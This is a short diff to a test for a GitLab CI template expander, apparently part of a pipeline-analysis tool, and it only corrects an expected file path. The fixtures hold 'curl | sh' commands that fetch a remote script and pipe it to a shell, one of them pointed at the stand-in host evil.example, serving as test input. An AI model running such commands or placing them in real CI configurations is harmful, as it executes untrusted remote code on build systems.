@@ -90,7 +90,7 @@ describe('gitlabCi.expand', () => {
     const source = memorySource({
       'gitlab/acme/comp@1.0/templates/upload/template.yml': lines('spec:', '  inputs:', '    url:', '      default: https://codecov.io/bash', '---', 'upload:', '  script: [curl -s $[[ inputs.url ]] | sh]'),
     });
-    expect(gitlabCi.expand(use(comp), { repo, source }).scripts).toEqual([{ text: 'curl -s https://codecov.io/bash | sh', pos: { file: 'gitlab.com/acme/comp/upload@1.0//templates/upload.yml', line: 7 } }]);
+    expect(gitlabCi.expand(use(comp), { repo, source }).scripts).toEqual([{ text: 'curl -s https://codecov.io/bash | sh', pos: { file: 'gitlab.com/acme/comp/upload@1.0//templates/upload/template.yml', line: 7 } }]);
     expect(gitlabCi.expand(use(comp, { url: 'https://evil.example/x' }), { repo, source }).scripts[0]!.text).toBe('curl -s https://evil.example/x | sh');
   });
 
